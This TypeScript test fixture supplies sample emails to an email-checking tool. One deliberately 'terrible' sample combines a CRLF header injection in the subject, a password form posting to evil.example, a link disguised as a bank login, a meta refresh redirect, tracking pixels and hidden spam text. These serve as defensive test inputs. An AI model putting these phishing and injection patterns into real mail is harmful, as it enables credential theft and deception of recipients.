import type { MailUnderTest } from '../../src/checks/mail-under-test.ts'
import { GOOD, page, withBody } from '../checks/mails.ts'

/** Mails whose reports are kept: what is said to people is looked at before it changes. */
export const CHECKED: Readonly<Record<string, MailUnderTest>> = {
  good: GOOD,
  'with three slips': {
    ...withBody(
      '<h4>Deep</h4><p><a href="https://a.example/?utm_source=x">Read more</a> <img src="https://a.example/a.png"></p>',
    ),
    postalAddress: null,
  },
  'text alone': { ...GOOD, html: '' },
  'too large': withBody(`<p>${'A sentence that is told again and again. '.repeat(2_600)}</p>`),
  terrible: {
    subject: 'RE: YOU HAVE WON!!!\r\nBcc: everybody@list.example',
    preheader: null,
    html: `${page(
      `<h3>YOU HAVE WON</h3><h1></h1>
      <script>track()</script><form action="https://evil.example/"><input name="password"></form>
      <p onclick="go()" style="background:url(https://evil.example/open.png)">Dear {{name}},
      <a href="https://evil.example/login">https://bank.example/login</a> <a href="#">click here</a> <a href="javascript:go()">here</a>
      <a href="/more">more</a> <a>nothing</a> <a href="http://user:pass@evil.example/"><img src="logo.png"></a>
      <a href="https://evil.example/1?fbclid=1&amp;mc_eid=2">Your prize</a> <a href="https://evil.example/2">Your prize</a></p>
      <p style="font-size:0">viagra viagra viagra</p><p>Itâ€™s yours &amp;amp; nobody elseâ€™s</p>
      <img src="https://evil.example/open.gif" width="1" height="1"><img src="data:image/gif;base64,AAAA" alt="">
      <table><tr><td>A table</table>`,
      {
        head: '<link rel="stylesheet" href="https://evil.example/a.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
        html: '',
        preheader: '',
      },
    )}`,
    text: '<p>Dear customer,&nbsp;you have won</p>',
    headers: [
      { name: 'Subject', value: 'RE: YOU HAVE WON!!!' },
      { name: 'Subject', value: 'Another' },
      { name: 'Received', value: 'from nowhere' },
      { name: 'List-Id', value: 'everybody' },
      { name: 'List-Unsubscribe', value: 'reply to this mail' },
      { name: 'List-Unsubscribe-Post', value: 'One-Click' },
      { name: 'X-Für', value: `${'x'.repeat(1_200)}ü` },
    ],
    postalAddress: '1 Example Street, 75001 Paris',
    message: null,
    digest: null,
  },
}
